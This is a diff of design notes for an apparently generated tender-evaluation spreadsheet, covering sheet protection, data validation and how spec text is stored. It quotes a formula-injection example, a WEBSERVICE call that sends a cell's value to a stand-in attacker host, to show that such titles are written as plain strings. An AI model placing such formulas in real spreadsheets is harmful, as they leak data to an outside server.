@@ -6,8 +6,8 @@ how it is scored, then the Answer and Evidence documents input cells); `Local ar
 tender selects `local only` measures (one row each: the postcode districts the results come from,
 or what counts within a named boundary); a hidden `Lists` sheet holding choice lists. Sheets
 are protected (without a password: the protection keeps the layout intact, it is not security)
-and only input cells are unlocked. Input cells carry data
-validation: number ranges, yes/no and choice lists, character limits.
+and only input cells are unlocked. Input cells carry data validation: number ranges, yes/no and
+choice lists, character limits.
 
 Every text from the spec is a string cell, never a formula or an error value: a title such as
 `=WEBSERVICE("https://evil.example/?"&B3)` is shown as written (with Excel's quote prefix), and
